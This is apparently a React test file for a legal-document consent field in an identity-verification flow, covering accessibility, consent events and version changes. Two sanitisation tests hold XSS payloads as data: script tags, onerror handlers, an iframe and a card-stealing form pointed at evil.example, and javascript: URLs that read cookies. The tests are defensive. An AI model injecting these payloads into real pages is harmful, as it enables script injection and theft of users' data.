import { screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import axe from 'axe-core';
import { createHash } from 'node:crypto';
import { useMemo, useState } from 'react';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import type { ConsentDetails } from '../../core/consent';
import type { LegalDocument, Page, Question } from '../../core/schemas';
import { PRIVACY_DOCUMENT_UUID, TERMS_DOCUMENT_UUID } from '../../sandbox';
import { renderWithKyc } from '../../../test/support/renderWithKyc';
// Aliased: the helper is not a React hook, but its `use` prefix trips react-hooks/rules-of-hooks.
import { API_BASE_URL, setupSandboxServer } from '../../../test/support/sandboxServer';
import type { KycEvent } from '../context/events';
import { ApplicationFormContext } from '../flow/ApplicationFormContext';
import { useAutosaveQueue, useAutosaveState } from '../hooks/useAutosave';
import { LegalDocumentField } from './LegalDocumentField';

const { sandbox } = setupSandboxServer();
let ids: { legalEntityUuid: string; clientUuid: string };

afterEach(() => {
  vi.restoreAllMocks();
});

beforeAll(() => {
  const seeded = sandbox.seed('draft');
  ids = { legalEntityUuid: seeded.legalEntityUuid, clientUuid: seeded.clientUuid };
});

const terms: Question = {
  title: 'Terms and Conditions',
  is_required: true,
  attribute: { key: 'terms_and_conditions', type: 'legal_document', value: null },
};

function Harness({ initial = null, onChange }: { initial?: string | null; onChange: (value: string | null) => void }) {
  const [value, setValue] = useState<string | null>(initial);
  return (
    <LegalDocumentField
      question={terms}
      id="q-terms"
      value={value}
      applicationUuid="app"
      onValueChange={(next) => {
        onChange(next);
        setValue(next);
      }}
    />
  );
}

/** A `fetch` that answers the legal-document call with `document` and passes everything else on. */
function serving(document: Partial<LegalDocument>): typeof fetch {
  return async (input, init) => {
    const url = new URL(input instanceof Request ? input.url : String(input));
    if (url.pathname.endsWith('/v1/legal_documents/')) {
      const body = { uuid: 'hostile-doc', key: 'terms_and_conditions', title: 'Terms', ...document };
      return Response.json({ count: 1, next: null, previous: null, results: [body] });
    }
    return fetch(input, init);
  };
}

async function setup(initial: string | null = null, fetchOverride?: typeof fetch) {
  const onChange = vi.fn<(value: string | null) => void>();
  const user = userEvent.setup();
  renderWithKyc(<Harness initial={initial} onChange={onChange} />, ids, fetchOverride ? { fetch: fetchOverride } : {});
  const checkbox = await screen.findByRole('checkbox', { name: /I have read and accept/ });
  return { user, onChange, checkbox };
}

describe('LegalDocumentField', () => {
  it('should show the title, version and content in a named, focusable region', async () => {
    await setup();
    const region = screen.getByRole('region', { name: 'Terms and Conditions' });
    expect(region).toHaveAttribute('tabindex', '0');
    expect(region).toHaveTextContent('These terms govern the identity verification');
    expect(screen.getByText('Version 2.1')).toBeInTheDocument();
    expect(screen.getByRole('group', { name: /Terms and Conditions/ })).toBeInTheDocument();
  });

  it('given an outdated acceptance / should have no accessibility violations', async () => {
    await setup('0ld-version-uuid');
    // Contrast needs layout (none in jsdom); "region" is a page-level rule, and the widget sits in the partner's page.
    const results = await axe.run(document.body, {
      rules: { 'color-contrast': { enabled: false }, region: { enabled: false } },
    });
    expect(results.violations.map((violation) => violation.id)).toEqual([]);
  });

  it('given no answer / should leave the consent box unticked', async () => {
    const { checkbox, onChange } = await setup();
    expect(checkbox).toHaveAccessibleName('I have read and accept this document');
    expect(checkbox).not.toBeChecked();
    expect(onChange).not.toHaveBeenCalled();
  });

  it('given a tick / should report the document uuid, and null when unticked', async () => {
    const { user, checkbox, onChange } = await setup();
    await user.click(checkbox);
    expect(onChange).toHaveBeenLastCalledWith(TERMS_DOCUMENT_UUID);
    expect(checkbox).toBeChecked();
    await user.click(checkbox);
    expect(onChange).toHaveBeenLastCalledWith(null);
    expect(checkbox).not.toBeChecked();
  });

  it('given the current document accepted / should show the box ticked', async () => {
    const { checkbox } = await setup(TERMS_DOCUMENT_UUID);
    expect(checkbox).toBeChecked();
  });

  it('given an older document accepted / should leave the box unticked and ask to accept again', async () => {
    const { checkbox } = await setup('0ld-version-uuid');
    expect(checkbox).not.toBeChecked();
    expect(checkbox).toHaveAccessibleDescription(/has changed since you accepted it/);
  });

  it('should let the keyboard reach the document and tick the box with Space', async () => {
    const { user, checkbox, onChange } = await setup();
    await user.tab();
    expect(screen.getByRole('region', { name: 'Terms and Conditions' })).toHaveFocus();
    for (let presses = 0; presses < 5 && document.activeElement !== checkbox; presses++) await user.tab();
    expect(checkbox).toHaveFocus();
    await user.keyboard(' ');
    expect(onChange).toHaveBeenCalledExactlyOnceWith(TERMS_DOCUMENT_UUID);
  });

  it('given a document url / should link to it in a new tab', async () => {
    await setup();
    const link = screen.getByRole('link', { name: 'Read the full text (opens in a new tab)' });
    expect(link).toHaveAttribute('href', 'https://example.com/legal/terms-and-conditions-v2.1.pdf');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('given hostile content / should render it without scripts, handlers, frames, forms or script links', async () => {
    const hostile = [
      '<p id="ok">Accept <b>these</b> terms.</p>',
      '<script>window.__pwned = true</script>',
      '<img src="x" onerror="window.__pwned = true">',
      '<iframe src="https://evil.example/"></iframe>',
      '<form action="https://evil.example/steal"><input name="card"><button>Send</button></form>',
      '<a href="javascript:window.__pwned=true">Click me</a>',
      '<a href="https://example.com/more" onclick="window.__pwned = true">More</a>',
    ].join('');
    await setup(null, serving({ content: hostile, url: null }));
    const region = screen.getByRole('region', { name: 'Terms' });
    expect(region).toHaveTextContent('Accept these terms.');
    expect(region.querySelector('script, iframe, form, input, button, img, [onerror], [onclick], [id]')).toBeNull();
    expect(screen.getByText('Click me').closest('a')).not.toHaveAttribute('href');
    const safe = screen.getByRole('link', { name: 'More' });
    expect(safe).toHaveAttribute('href', 'https://example.com/more');
    expect(safe).toHaveAttribute('rel', 'noopener noreferrer');
    expect((window as { __pwned?: boolean }).__pwned).toBeUndefined();
  });

  it('given a javascript: url and no content / should not link and not let the box be ticked', async () => {
    const { checkbox } = await setup(null, serving({ content: null, url: 'javascript:alert(document.cookie)' }));
    expect(screen.queryByRole('link')).not.toBeInTheDocument();
    expect(checkbox).toBeDisabled();
    expect(checkbox).toHaveAccessibleDescription('This document cannot be shown here. Please contact support.');
  });

  it('given only an https url on another host / should link to it and allow consent', async () => {
    const { user, checkbox, onChange } = await setup(
      null,
      serving({ content: null, url: 'https://cdn.partner.example/terms.pdf' }),
    );
    expect(screen.queryByRole('region')).not.toBeInTheDocument();
    expect(screen.getByRole('link', { name: /Read the full text/ })).toHaveAttribute(
      'href',
      'https://cdn.partner.example/terms.pdf',
    );
    await user.click(checkbox);
    expect(onChange).toHaveBeenCalledExactlyOnceWith('hostile-doc');
  });

  it('given the document fails to load / should offer a retry that loads it', async () => {
    sandbox.setFaults({ routes: { legalDocuments: { failureRate: 1 } } });
    const user = userEvent.setup();
    renderWithKyc(<Harness onChange={() => {}} />, ids);
    // The client retries transient faults a few times before giving up.
    const alert = await screen.findByRole('alert', {}, { timeout: 10_000 });
    expect(alert).toHaveTextContent('The document could not be loaded.');
    expect(screen.queryByRole('checkbox')).not.toBeInTheDocument();

    sandbox.setFaults(undefined);
    await user.click(screen.getByRole('button', { name: 'Try again' }));
    await waitFor(() => expect(screen.getByRole('checkbox', { name: /I have read and accept/ })).not.toBeChecked());
    expect(screen.queryByRole('alert')).not.toBeInTheDocument();
  });
});

/** How many times `text` is written in the field (its legend, heading, link and consent), the document's own text aside. */
function timesShown(text: string): number {
  const field = screen.getByRole('group');
  const shown = [...field.querySelectorAll('legend, p, a, label')].filter(
    (element) => !element.closest('[role=region]'),
  );
  return shown.map((element) => element.textContent.split(text).length - 1).reduce((a, b) => a + b, 0);
}

describe('LegalDocumentField title', () => {
  it('given the question is titled like the document / should show the title once, as the legend', async () => {
    await setup();
    expect(timesShown('Terms and Conditions')).toBe(1);
    expect(screen.getByRole('group', { name: /^Terms and Conditions/ })).toBeInTheDocument();
    expect(screen.getByRole('region', { name: 'Terms and Conditions' })).toBeInTheDocument();
  });

  it('given a question titled otherwise / should show the document’s title once, under the question', async () => {
    const onChange = vi.fn<(value: string | null) => void>();
    renderWithKyc(
      <LegalDocumentField
        question={{ ...terms, title: 'Our agreement with you' }}
        id="q-terms"
        value={null}
        applicationUuid="app"
        onValueChange={onChange}
      />,
      ids,
    );
    await screen.findByRole('checkbox', { name: 'I have read and accept this document' });
    expect(timesShown('Terms and Conditions')).toBe(1);
    expect(timesShown('Our agreement with you')).toBe(1);
    expect(screen.getByRole('region', { name: 'Terms and Conditions' })).toBeInTheDocument();
  });
});

// --- Consent proof: inside the flow the field's answer goes to the application's autosave queue. ---

const privacy: Question = {
  title: 'Privacy Policy',
  is_required: true,
  attribute: { key: 'privacy_policy', type: 'legal_document', value: null },
};

const sha256 = (text: string) => createHash('sha256').update(text, 'utf8').digest('hex');
const consentEvents = (events: unknown[]) =>
  (events as KycEvent[]).filter((event) => event.type.startsWith('legal_document_'));

/** The field inside an application form, its answer saved by the real autosave queue (as the flow does). */
function FormHarness({ applicationUuid, initial = null }: { applicationUuid: string; initial?: string | null }) {
  const queue = useAutosaveQueue(applicationUuid, { debounceMs: 0, retry: { attempts: 0 } });
  const state = useAutosaveState(queue);
  const [value, setValue] = useState<string | null>(initial);
  const form = useMemo(
    () => ({
      applicationUuid,
      idPrefix: 'legal-test',
      notes: new Map<string, string>(),
      queue,
      revealed: 0,
      stepQuestionsOf: () => [privacy],
      currentLegalDocuments: () => undefined,
      showServerAnswer: () => undefined,
    }),
    [applicationUuid, queue],
  );
  return (
    <ApplicationFormContext.Provider value={form}>
      <LegalDocumentField
        question={privacy}
        id="q-privacy"
        value={value}
        applicationUuid={applicationUuid}
        onValueChange={(next) => {
          setValue(next);
          queue.set('privacy_policy', next);
        }}
      />
      <p data-testid="save-state">{state.status}</p>
      <button type="button" onClick={() => queue.retry()}>
        Retry saving
      </button>
    </ApplicationFormContext.Provider>
  );
}

/** A `fetch` that holds every PATCH until `release()`; `arrived` resolves when the first one is held. */
function holdingPatches() {
  let release = () => {};
  let arrive = () => {};
  const released = new Promise<void>((resolve) => (release = resolve));
  const arrived = new Promise<void>((resolve) => (arrive = resolve));
  const gated: typeof fetch = async (input, init) => {
    const method = init?.method ?? (input instanceof Request ? input.method : 'GET');
    if (method.toUpperCase() === 'PATCH') {
      arrive();
      await released;
    }
    return fetch(input, init);
  };
  return { fetch: gated, arrived, release };
}

/** Every SHA-256 the page computes, so a test can wait until the field's hashes are done. */
function watchDigests() {
  const digests: Promise<unknown>[] = [];
  const subtle = globalThis.crypto.subtle;
  const digest = subtle.digest.bind(subtle);
  vi.spyOn(subtle, 'digest').mockImplementation((...args) => {
    const result = digest(...args);
    digests.push(result);
    return result;
  });
  return { settled: async () => void (await Promise.all(digests)) };
}

function setupForm(initial: string | null = null, extra: { fetch?: typeof fetch } = {}) {
  const seeded = sandbox.seed('draft');
  const applicationUuid = seeded.applicationUuid ?? '';
  /** What the server held for the answer at the moment each consent reached the partner. */
  const storedAtConsent: unknown[] = [];
  const onConsent = vi.fn<(details: ConsentDetails) => void>(() => {
    storedAtConsent.push(sandbox.inspect(applicationUuid)?.answers['privacy_policy']);
  });
  const user = userEvent.setup();
  const rendered = renderWithKyc(<FormHarness applicationUuid={applicationUuid} initial={initial} />, seeded, {
    onConsent,
    ...extra,
  });
  const checkbox = () => screen.findByRole('checkbox', { name: /I have read and accept/ });
  const saveState = () => screen.getByTestId('save-state');
  return { ...rendered, seeded, applicationUuid, onConsent, storedAtConsent, user, checkbox, saveState };
}

async function fetchPrivacyPolicy(legalEntityUuid: string): Promise<LegalDocument> {
  const response = await fetch(
    `${API_BASE_URL}/v1/legal_documents/?legal_entity_uuid=${legalEntityUuid}&key=privacy_policy`,
  );
  const page = (await response.json()) as Page<LegalDocument>;
  const [document] = page.results;
  if (!document) throw new Error('no privacy policy');
  return document;
}

describe('LegalDocumentField consent proof', () => {
  it('given an acceptance / should report it once, after the PATCH succeeded, with the version and the hash of the text shown', async () => {
    const patches = holdingPatches();
    const digests = watchDigests();
    const { user, checkbox, onConsent, storedAtConsent, events, seeded, applicationUuid, saveState } = setupForm(null, {
      fetch: patches.fetch,
    });
    await user.click(await checkbox());

    // The PATCH is on its way and the hashes are done: the tick alone reports nothing.
    await patches.arrived;
    await digests.settled();
    await new Promise((resolve) => setTimeout(resolve, 0));
    expect(onConsent).not.toHaveBeenCalled();
    expect(consentEvents(events)).toEqual([]);

    patches.release();
    await waitFor(() => expect(onConsent).toHaveBeenCalled());
    await waitFor(() => expect(saveState()).toHaveTextContent('saved'));
    expect(onConsent).toHaveBeenCalledOnce();
    // The answer was on the server before the partner heard of the consent.
    expect(storedAtConsent).toEqual([PRIVACY_DOCUMENT_UUID]);
    const types = (events as KycEvent[]).map((event) => event.type);
    expect(types.indexOf('answers_saved')).toBeLessThan(types.indexOf('legal_document_accepted'));

    const source = await fetchPrivacyPolicy(seeded.legalEntityUuid);
    const region = screen.getByRole('region', { name: 'Privacy Policy' });
    const details = onConsent.mock.calls[0]?.[0];
    expect(details).toEqual({
      action: 'accepted',
      attributeKey: 'privacy_policy',
      applicationUuid,
      documentUuid: PRIVACY_DOCUMENT_UUID,
      documentKey: 'privacy_policy',
      documentVersion: '1.4',
      locale: 'en',
      at: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
      shown: 'content',
      // Exactly the sanitised HTML on screen, and the content as the API sent it.
      sha256: sha256(region.innerHTML),
      sourceSha256: sha256(source.content ?? ''),
    });
    const { action: _action, ...fields } = details ?? ({} as ConsentDetails);
    expect(consentEvents(events)).toEqual([{ type: 'legal_document_accepted', ...fields }]);
  });

  it('given the PATCH fails / should report nothing and show the save error; a retry that succeeds reports it', async () => {
    const { user, checkbox, onConsent, events, saveState } = setupForm();
    sandbox.setFaults({ routes: { updateApplication: { failureRate: 1 } } });
    const box = await checkbox();
    await user.click(box);

    await waitFor(() => expect(saveState()).toHaveTextContent('error'));
    expect(box).toBeChecked();
    expect(onConsent).not.toHaveBeenCalled();
    expect(consentEvents(events)).toEqual([]);

    sandbox.setFaults(undefined);
    await user.click(screen.getByRole('button', { name: 'Retry saving' }));
    await waitFor(() => expect(onConsent).toHaveBeenCalledOnce());
    expect(consentEvents(events).map((event) => event.type)).toEqual(['legal_document_accepted']);
  });

  it('given a withdrawal after a saved acceptance / should report the withdrawal once it is saved', async () => {
    const { user, checkbox, onConsent, storedAtConsent, events } = setupForm();
    const box = await checkbox();
    await user.click(box);
    await waitFor(() => expect(onConsent).toHaveBeenCalledOnce());
    await user.click(box);
    await waitFor(() => expect(onConsent).toHaveBeenCalledTimes(2));
    expect(onConsent.mock.calls[1]?.[0]).toMatchObject({ action: 'withdrawn', documentUuid: PRIVACY_DOCUMENT_UUID });
    expect(storedAtConsent).toEqual([PRIVACY_DOCUMENT_UUID, undefined]);
    expect(consentEvents(events).map((event) => event.type)).toEqual([
      'legal_document_accepted',
      'legal_document_withdrawn',
    ]);
  });

  it('given a new version published / should reopen the box, say when it changed, and a second acceptance carries the new version', async () => {
    const { user, checkbox, onConsent, queryClient, seeded, events } = setupForm();
    await user.click(await checkbox());
    await waitFor(() => expect(onConsent).toHaveBeenCalledOnce());

    const published = sandbox.publishLegalDocumentVersion(seeded.legalEntityUuid, 'privacy_policy');
    const date = new Intl.DateTimeFormat('en', { dateStyle: 'long' }).format(
      new Date(String(published?.['published_at'])),
    );
    await queryClient.invalidateQueries();
    await waitFor(async () => expect(await checkbox()).not.toBeChecked());
    const box = await checkbox();
    expect(box).toHaveAccessibleDescription(
      `This document was updated on ${date}. Your earlier acceptance does not cover the new version: please read it and accept it.`,
    );
    expect(screen.getByText('Version 1.5')).toBeInTheDocument();

    await user.click(box);
    await waitFor(() => expect(onConsent).toHaveBeenCalledTimes(2));
    const [first, second] = onConsent.mock.calls.map(([details]) => details);
    expect(second).toMatchObject({ action: 'accepted', documentUuid: published?.uuid, documentVersion: '1.5' });
    expect(second?.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(second?.sha256).not.toBe(first?.sha256);
    expect(second?.sha256).toBe(sha256(screen.getByRole('region', { name: 'Privacy Policy' }).innerHTML));
    expect(consentEvents(events)).toHaveLength(2);
  });

  it('given no application form around the field / should report the consent when the box is ticked', async () => {
    const onConsent = vi.fn<(details: ConsentDetails) => void>();
    const user = userEvent.setup();
    const { events } = renderWithKyc(<Harness onChange={() => {}} />, ids, { onConsent });
    const box = await screen.findByRole('checkbox', { name: /I have read and accept/ });
    await user.click(box);
    await waitFor(() => expect(onConsent).toHaveBeenCalledOnce());
    expect(onConsent.mock.calls[0]?.[0]).toMatchObject({
      action: 'accepted',
      applicationUuid: 'app',
      documentUuid: TERMS_DOCUMENT_UUID,
      documentVersion: '2.1',
    });
    await user.click(box);
    await waitFor(() => expect(onConsent).toHaveBeenCalledTimes(2));
    expect(consentEvents(events).map((event) => event.type)).toEqual([
      'legal_document_accepted',
      'legal_document_withdrawn',
    ]);
  });
});
